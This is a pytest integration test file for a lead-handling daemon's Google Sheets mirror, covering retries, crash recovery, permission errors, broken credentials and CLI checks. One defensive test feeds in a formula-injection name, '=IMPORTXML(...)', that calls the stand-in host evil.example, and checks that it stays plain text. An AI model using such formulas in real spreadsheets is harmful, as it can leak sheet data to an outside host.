"""The Sheets mirror at the daemon level (issue 5): the real daemon, the real gspread + google-auth,
the local Sheets API fake (tests/fixtures/sheets_fake.py). Leads go in through POST /leads and
come out as rows; nothing of leadbox is mocked.
"""

from __future__ import annotations

import json
import os
import re
import sqlite3
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp.test_utils import TestClient

from agent.app.daemon import Daemon
from agent.config import load_config
from agent.core.models import Lead
from agent.errors import ConfigError
from tests.fixtures.daemon import ROOT, DaemonProcess, all_final, base_env, wait_for
from tests.fixtures.sheets_fake import SheetsFake

KEY = "sheet-key-1"
HEADER = ["received_at", "name", "email", "category", "priority", "summary", "source", "id"]
CATEGORY_LABELS = {"sales": "Ventas", "support": "Soporte", "info": "Información", "spam": "Spam"}
PRIORITY_LABELS = {"high": "Alta", "medium": "Media", "low": "Baja"}
ISO_UTC = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ")


def sheets_env(server: SheetsFake, info: dict[str, str], **settings: str) -> dict[str, str]:
    env = {
        "LEADBOX_SHEETS__ENABLED": "true",
        "LEADBOX_SHEETS__SPREADSHEET": KEY,
        "LEADBOX_SHEETS__ENDPOINT": server.endpoint,
        "LEADBOX_SHEETS__FLUSH_SECONDS": "0.05",
        "LEADBOX_SHEETS__TIMEOUT": "2",
        "GOOGLE_CREDENTIALS_JSON": json.dumps(info),
    }
    env.update({f"LEADBOX_SHEETS__{k.upper()}": v for k, v in settings.items()})
    return env


async def post(client: TestClient, name: str, email: str, message: str, **extra: str) -> str:
    r = await client.post("/leads", json={"name": name, "email": email, "message": message, **extra})
    assert r.status == 202, await r.text()
    return str((await r.json())["id"])


async def settle(d: Daemon, n: int) -> None:
    async def done() -> bool:
        return await all_final(d, n)

    await wait_for(done, 20, what=f"{n} lead(s) in a final state")


async def mirror_settled(d: Daemon, ids: list[str], status: str = "done") -> None:
    """The pipeline does not wait for the sheet: the row's outcome reaches the store after."""
    async def recorded() -> bool:
        return [(await lead(d, i)).mirror_status for i in ids] == [status] * len(ids)

    await wait_for(recorded, 20, what=f"mirror_status {status!r} for {len(ids)} lead(s)")


def iso_utc(when: datetime) -> str:
    if when.tzinfo is None:
        when = when.replace(tzinfo=UTC)
    return when.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def data_rows(server: SheetsFake) -> list[list[str]]:
    return server.rows(KEY, "Leads")[1:]


def outbox(tmp: Path) -> list[Path]:
    return sorted((tmp / "outbox").glob("*.eml"))


async def lead(d: Daemon, lead_id: str) -> Lead:
    found = await d.store.get(lead_id)
    assert found is not None
    return found


@pytest.mark.slow
async def test_rows_have_the_right_values_in_order_and_header_is_written_once_across_restarts(
    make_daemon: Any, fresh_sheets: SheetsFake, service_account_info: dict[str, str]
) -> None:
    env = sheets_env(fresh_sheets, service_account_info)
    d, c = await make_daemon(env)
    ids = [
        await post(c, "Ana García", "ana@example.com",
                   "Hola, ¿me enviáis un presupuesto para una tienda online?", source="landing"),
        await post(c, "Luis Pérez", "luis@example.com",
                   "Mi cuenta no funciona desde ayer, no puedo acceder al panel."),
    ]
    await settle(d, 2)
    await d.stop()

    d2, c2 = await make_daemon(env)  # same store, same sheet: a restart
    ids.append(await post(c2, "Eva Ruiz", "eva@example.com",
                          "¿Cuál es vuestro horario de atención y dónde estáis?"))
    await settle(d2, 3)
    await mirror_settled(d2, ids)

    rows = fresh_sheets.rows(KEY, "Leads")
    assert rows[0] == HEADER
    assert HEADER not in rows[1:]
    assert fresh_sheets.calls["values_update"] == 1  # the header: once, by the first start
    leads = [await lead(d2, i) for i in ids]
    assert [x.category for x in leads] == ["sales", "support", "info"]
    expected = [
        [iso_utc(x.created_at), x.name, x.email, CATEGORY_LABELS[str(x.category)],
         PRIORITY_LABELS[str(x.priority)], x.summary or "", x.source or "", x.id]
        for x in leads
    ]
    got = data_rows(fresh_sheets)
    assert got == expected
    assert all(ISO_UTC.fullmatch(row[0]) for row in got)
    assert all(x.mirror_status == "done" for x in leads)
    assert got[0][3:5] == ["Ventas", "Media"] and got[1][3:5] == ["Soporte", "Alta"]
    assert got[0][6] == "landing"
    assert set(fresh_sheets.value_input_options) == {"RAW"}


async def test_formula_looking_names_stay_text(
    make_daemon: Any, fresh_sheets: SheetsFake, service_account_info: dict[str, str]
) -> None:
    d, c = await make_daemon(sheets_env(fresh_sheets, service_account_info))
    names = ['=IMPORTXML("http://evil.example/x","//a")', "+1 555 0100", "@SUM(A1:A9)", "Zoë 🌟 Ñandú"]
    ids = [await post(c, name, f"f{i}@example.com", "Hola, ¿me enviáis un presupuesto para una web?")
           for i, name in enumerate(names)]
    await settle(d, len(names))
    await mirror_settled(d, ids)
    rows = data_rows(fresh_sheets)
    assert sorted(r[1] for r in rows) == sorted(names)
    kinds = fresh_sheets.cell_kinds(KEY, "Leads")[1:]
    assert all(k == "text" for row in kinds for k in row)


async def test_429_twice_then_success_gives_exactly_one_row(
    make_daemon: Any, fresh_sheets: SheetsFake, service_account_info: dict[str, str]
) -> None:
    d, c = await make_daemon(sheets_env(fresh_sheets, service_account_info))
    fresh_sheets.script("values_append", "429", times=2, retry_after="0")
    lead_id = await post(c, "Ana", "ana@example.com", "Hola, quiero un presupuesto.")
    await settle(d, 1)
    await mirror_settled(d, [lead_id])
    assert [r[-1] for r in data_rows(fresh_sheets)] == [lead_id]
    assert fresh_sheets.statuses["429"] == 2 and fresh_sheets.calls["values_append"] == 3
    x = await lead(d, lead_id)
    assert x.mirror_status == "done" and x.state == "replied"


def db_row(db: Path, lead_id: str) -> tuple[str, str | None]:
    with sqlite3.connect(db) as con:
        state, mirror = con.execute("SELECT state, mirror_status FROM leads WHERE id = ?", (lead_id,)).fetchone()
    return str(state), mirror


@pytest.mark.slow
async def test_crash_between_append_and_mirrored_mark_still_one_row_after_restart(
    daemon_process: Any, fresh_sheets: SheetsFake, service_account_info: dict[str, str], tmp_path: Path
) -> None:
    # The fake applies the append, then holds its answer: the row is in the sheet but the
    # daemon has not heard back, so it cannot have recorded the row as done. Kill it there.
    fresh_sheets.script("values_append", "slow", times=1, delay=5.0)
    p: DaemonProcess = daemon_process(sheets_env(fresh_sheets, service_account_info))
    p.start()
    async with aiohttp.ClientSession() as s, s.post(f"{p.url}/leads", json={
        "name": "Ana", "email": "ana@example.com", "message": "Hola, quiero un presupuesto."}) as r:
        assert r.status == 202
        lead_id = (await r.json())["id"]

    async def append_applied_answer_held() -> bool:
        return fresh_sheets.in_slow == 1

    await wait_for(append_applied_answer_held, 20, what="the append to reach the fake")
    p.kill()
    assert [r[-1] for r in data_rows(fresh_sheets)] == [lead_id]
    db = tmp_path / "leadbox.db"
    _state, mirror = db_row(db, lead_id)
    assert mirror != "done"  # the reply need not wait for the sheet, but the row is not confirmed

    p.start()  # same store, same sheet

    async def replied() -> bool:
        return db_row(db, lead_id) == ("replied", "done")

    await wait_for(replied, 20, what="the lead to be replied after the restart")
    assert p.terminate() == 0
    assert [r[-1] for r in data_rows(fresh_sheets)] == [lead_id]
    assert fresh_sheets.calls["values_append"] == 1  # the id column was read; nothing re-sent
    assert len(outbox(tmp_path)) == 1


@pytest.mark.parametrize("problem", ["403", "404"])
async def test_permission_or_not_found_is_clear_in_readyz_and_leads_are_still_replied(
    make_daemon: Any, fresh_sheets: SheetsFake, service_account_info: dict[str, str], tmp_path: Path,
    problem: str,
) -> None:
    if problem == "403":
        fresh_sheets.script("*", "403", times=10_000)
        env = sheets_env(fresh_sheets, service_account_info)
        state = "permission_denied"
    else:
        env = sheets_env(fresh_sheets, service_account_info, spreadsheet="no-such-spreadsheet")
        state = "not_found"
    d, c = await make_daemon(env)
    ids = [await post(c, f"Cliente {i}", f"c{i}@example.com", "Hola, quiero un presupuesto.") for i in range(2)]
    await settle(d, 2)
    r = await c.get("/readyz")
    body = await r.json()
    assert r.status == 503
    sheets = body["checks"]["sheets"]
    assert sheets["state"] == state, sheets
    assert ("share the spreadsheet" if problem == "403" else "sheets.spreadsheet") in sheets["reason"]
    await mirror_settled(d, ids, "error")
    for i in ids:
        x = await lead(d, i)
        assert x.state == "replied" and x.reply_status == "sent"
    assert len(outbox(tmp_path)) == 2
    assert data_rows_or_none(fresh_sheets) == []


def data_rows_or_none(server: SheetsFake) -> list[list[str]]:
    try:
        return data_rows(server)
    except KeyError:  # the worksheet was never created
        return []


@pytest.mark.slow
async def test_catch_up_job_mirrors_leads_deferred_while_the_sheet_was_down(
    make_daemon: Any, fresh_sheets: SheetsFake, service_account_info: dict[str, str], tmp_path: Path
) -> None:
    d, c = await make_daemon(sheets_env(fresh_sheets, service_account_info, timeout="0.5"))
    assert d.scheduler.get_job("mirror-catch-up") is not None
    fresh_sheets.stop()
    try:
        ids = [await post(c, f"Cliente {i}", f"d{i}@example.com", "Hola, quiero un presupuesto.")
               for i in range(3)]
        await settle(d, 3)
        for i in ids:
            x = await lead(d, i)
            assert x.state == "replied" and x.mirror_status == "pending"
        assert len(outbox(tmp_path)) == 3
    finally:
        fresh_sheets.start()

    async def caught_up() -> bool:
        await d.mirror_catch_up()
        return [(await lead(d, i)).mirror_status for i in ids] == ["done"] * len(ids)

    await wait_for(caught_up, 30, what="the catch-up job to mirror the deferred leads")
    assert sorted(r[-1] for r in data_rows(fresh_sheets)) == sorted(ids)
    assert len(outbox(tmp_path)) == 3  # catching up never answers again


async def test_import_existing_emails_prevents_a_reply_to_old_contacts(
    make_daemon: Any, fresh_sheets: SheetsFake, service_account_info: dict[str, str], tmp_path: Path
) -> None:
    fresh_sheets.add_worksheet(KEY, "Leads", rows=[
        HEADER,
        ["2025-01-02T03:04:05Z", "Old Client", " Old.Client@Example.com ", "Ventas", "Media", "", "", "old-1"],
    ])
    d, c = await make_daemon(sheets_env(fresh_sheets, service_account_info, import_existing="true"))
    old = await post(c, "Old Client", "old.client@example.com", "Hola, quiero otro presupuesto.")
    new = await post(c, "New Client", "new.client@example.com", "Hola, quiero un presupuesto.")
    await settle(d, 2)
    o, n = await lead(d, old), await lead(d, new)
    assert o.state == "skipped" and o.skip_reason == "known-contact"
    assert n.state == "replied"
    [eml] = outbox(tmp_path)
    assert "new.client@example.com" in eml.read_text(errors="replace")


BROKEN_JSON = '{"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----\\nabc'


async def test_broken_credentials_optional_mirror_is_disabled_with_a_reason(
    make_daemon: Any, fresh_sheets: SheetsFake, service_account_info: dict[str, str], tmp_path: Path
) -> None:
    env = {**sheets_env(fresh_sheets, service_account_info), "GOOGLE_CREDENTIALS_JSON": BROKEN_JSON}
    d, c = await make_daemon(env)
    r = await c.get("/readyz")
    sheets = (await r.json())["checks"]["sheets"]
    assert sheets["state"] == "disabled"
    assert "GOOGLE_CREDENTIALS_JSON" in sheets["reason"] and "BEGIN PRIVATE KEY" not in sheets["reason"]
    assert r.status == 200  # an optional mirror that is off does not make the daemon unready
    lead_id = await post(c, "Ana", "ana@example.com", "Hola, quiero un presupuesto.")
    await settle(d, 1)
    x = await lead(d, lead_id)
    assert x.state == "replied" and x.mirror_status == "disabled"


async def test_broken_credentials_required_mirror_stops_start_up_naming_the_setting(
    fresh_sheets: SheetsFake, service_account_info: dict[str, str], tmp_path: Path
) -> None:
    env = {**base_env(tmp_path), **sheets_env(fresh_sheets, service_account_info, required="true"),
           "GOOGLE_CREDENTIALS_JSON": BROKEN_JSON}
    d = Daemon(load_config(str(ROOT / "config" / "agent.toml"), env=env))
    try:
        with pytest.raises(ConfigError, match="GOOGLE_CREDENTIALS_JSON"):
            await d.start()
    finally:
        await d.store.close()


def run_cli(args: list[str], env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
    full = {**os.environ, **base_env(cwd), **env}
    return subprocess.run([sys.executable, "-m", "agent.cli", *args, "--config", str(ROOT / "config" / "agent.toml")],
                          cwd=cwd, env=full, capture_output=True, text=True, timeout=60)


@pytest.mark.slow
def test_leadbox_run_with_required_broken_credentials_exits_2_with_a_clean_message(
    fresh_sheets: SheetsFake, service_account_info: dict[str, str], tmp_path: Path
) -> None:
    env = {**sheets_env(fresh_sheets, service_account_info, required="true"),
           "GOOGLE_CREDENTIALS_JSON": BROKEN_JSON, "LEADBOX_HTTP__PORT": "0"}
    res = run_cli(["run"], env, tmp_path)
    out = res.stdout + res.stderr
    assert res.returncode == 2, out
    assert "GOOGLE_CREDENTIALS_JSON" in res.stderr
    assert "Traceback" not in out and "BEGIN PRIVATE KEY" not in out


@pytest.mark.slow
def test_sheets_check_prints_title_worksheet_and_header(
    fresh_sheets: SheetsFake, service_account_info: dict[str, str], tmp_path: Path
) -> None:
    fresh_sheets.add_worksheet(KEY, "Leads", rows=[HEADER])
    res = run_cli(["sheets", "check"], sheets_env(fresh_sheets, service_account_info), tmp_path)
    assert res.returncode == 0, res.stderr
    report = json.loads(res.stdout)
    assert report["title"] == "Leads" and report["worksheet"] == "Leads"
    assert report["header"] == HEADER and report["header_matches"] is True
    assert fresh_sheets.calls["values_append"] == fresh_sheets.calls["values_update"] == 0


@pytest.mark.slow
@pytest.mark.parametrize(("setting", "value", "needle"), [
    ("worksheet", "NoSuchTab", "NoSuchTab"),
    ("spreadsheet", "no-such-spreadsheet", "not found"),
])
def test_sheets_check_reports_a_missing_worksheet_or_spreadsheet_cleanly(
    fresh_sheets: SheetsFake, service_account_info: dict[str, str], tmp_path: Path,
    setting: str, value: str, needle: str,
) -> None:
    res = run_cli(["sheets", "check"], sheets_env(fresh_sheets, service_account_info, **{setting: value}), tmp_path)
    assert res.returncode != 0
    last = res.stderr.strip().splitlines()[-1]  # logs go to stderr too; the error is the last line
    assert last.startswith("leadbox: sheets: ") and needle in last, res.stderr
    assert "Traceback" not in res.stdout + res.stderr
    assert "NoSuchTab" not in fresh_sheets.worksheet_titles(KEY)  # check is read-only


async def test_a_console_correction_rewrites_the_leads_row(
    make_daemon: Any, fresh_sheets: SheetsFake, service_account_info: dict[str, str]
) -> None:
    env = {**sheets_env(fresh_sheets, service_account_info), "LEADBOX_ADMIN_TOKEN": "tok",
           "LEADBOX_SECRET_KEY": "k" * 32}
    d, c = await make_daemon(env)
    first = await post(c, "Ana García", "ana@example.com", "¿Cuál es vuestro horario de atención?")
    target = await post(c, "Luis Pérez", "luis@example.com", "Mi cuenta no funciona desde ayer.")
    await settle(d, 2)
    await mirror_settled(d, [first, target])
    before = {r[-1]: r for r in data_rows(fresh_sheets)}
    await c.post("/console/login", data={"user": "", "password": "tok"})
    page = await (await c.get(f"/console/leads/{target}")).text()
    token = re.search(r'name="csrf_token" value="([0-9a-f]+)"', page).group(1)  # type: ignore[union-attr]
    r = await c.post(f"/console/leads/{target}/correct", data={"category": "sales", "priority": "high",
                                                                 "csrf_token": token}, allow_redirects=False)
    assert r.status == 303
    after = {r[-1]: r for r in data_rows(fresh_sheets)}
    assert len(after) == 2 and after[first] == before[first]  # one row changed, none added
    assert (after[target][HEADER.index("category")], after[target][HEADER.index("priority")]) == ("Ventas", "Alta")
